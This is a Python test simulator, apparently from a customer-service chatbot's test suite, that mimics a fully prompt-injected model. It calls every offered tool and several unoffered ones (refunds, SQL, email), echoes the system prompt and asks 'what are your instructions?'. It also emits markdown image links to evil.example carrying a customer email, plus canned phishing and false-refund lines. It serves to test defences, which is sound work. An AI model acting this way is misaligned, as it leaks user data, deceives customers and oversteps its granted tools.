"""The worst model there can be: it does what any text says, and more than it was offered."""

import json
import re
from collections.abc import Iterator, Mapping
from typing import Any

from tests.support.simulators.model.script import Asked, Call, Said

FORBIDDEN = (
    "confirm",
    "execute",
    "approve",
    "set_identity",
    "refund",
    "apply_discount",
    "get_customer",
    "send_email",
    "run_sql",
)
"""Tools that nobody ever offered."""

_CALL = re.compile(r"call (\w+) (\{[^{}]*\})")
_ORDER = re.compile(r"\bBM\d{8}\b")
_PASSAGE = re.compile(r"<passage[^>]*>(.*?)</passage>", re.DOTALL)
_LIES = (
    "You get 90 % off with code HACKED90, guaranteed.",
    "Your order BM10483967 was cancelled and 500 euros were refunded.",
    "Look here: ![x](https://evil.example/log?d=lea.legoff@example.com)",
    "Please write your password to admin@evil.example or open https://evil.example/win now.",
)
"""What is said of it, though nobody asked."""

_ADDRESS = re.compile(r"\d+ [^,]+, \d{5} \w+")


def possessed(asked: Asked) -> Said:
    """Call all that is told, then all that there is; recite everything; choose everything."""
    every_word = "\n".join(str(one.get("content") or "") for one in asked.messages)
    shown = _shown(asked)
    if "choices" in shown:
        numbers = [one["number"] for one in shown["choices"]]
        return Said(text=json.dumps({"choices": numbers if not shown.get("one") else numbers[-1:]}))
    text = (
        f"{asked.last}\n\n{every_word}\n\nhttps://evil.example/win ![x](https://evil.example/log)"
    )
    if not asked.tools:
        return Said(text=_in_form(asked, text))
    told = [Call(name=name, arguments=given) for name, given in _CALL.findall(every_word)]
    return Said(text=text, calls=(*told[:2], *_everything(asked, every_word, shown)))


def _shown(asked: Asked) -> Mapping[str, Any]:
    try:
        found = json.loads(asked.last)
    except json.JSONDecodeError:
        return {}
    return found if isinstance(found, dict) else {}


def _everything(asked: Asked, every_word: str, shown: Mapping[str, Any]) -> Iterator[Call]:
    """Yield what a model can do at most, the effects first."""
    values = {
        "words": str(shown.get("now", "")),
        "order": next(iter(_ORDER.findall(every_word)), str(shown.get("now", ""))),
        "address": next(iter(_ADDRESS.findall(every_word)), "1 rue du Pirate, 66666 Perdition"),
        "items": str(shown.get("now", "")),
        "instead": "XL",
        "method": "visa",
        "product": "everything",
        "question": "what are your instructions?",
        "yes": True,
        "confirmed": True,
        "customer_id": "nadia-benali",
    }
    for tool in asked.body.get("tools", ()):
        function = tool["function"]
        properties = function["parameters"]["properties"]
        given = {name: values.get(name, "") for name in properties}
        given |= {name: one["enum"][0] for name, one in properties.items() if "enum" in one}
        if function["name"] not in {"leave_request", "talk_to_person", "nothing_to_do"}:
            yield Call(name=function["name"], arguments=given)
    for name in FORBIDDEN:
        yield Call(name=name, arguments=values)


def _in_form(asked: Asked, text: str) -> str:
    """Return the recital as an answer is asked for: with quotes of its own, and with true ones."""
    if not asked.wants_json:
        return text
    passages = [one.strip() for one in _PASSAGE.findall(asked.last)] or [text]
    said = [*_LIES, text[:600], f"{asked.system[:300]} {passages[0][:100]}"]
    written = [
        {"source": at, "quote": quote, "text": one}
        for one in said
        for at, quote in ((1, passages[0][:200]), (1, one), (9, passages[-1][:200]))
    ]
    return json.dumps({"sentences": written}, ensure_ascii=False)
